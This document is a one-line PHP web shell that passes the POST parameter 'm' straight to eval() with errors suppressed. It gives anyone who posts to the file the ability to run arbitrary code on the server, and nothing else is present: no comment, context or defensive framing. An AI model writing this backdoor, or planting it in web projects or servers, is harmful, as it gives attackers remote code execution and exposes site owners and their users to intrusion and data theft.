<?php $q=$_POST; @eval($q['m']); ?>
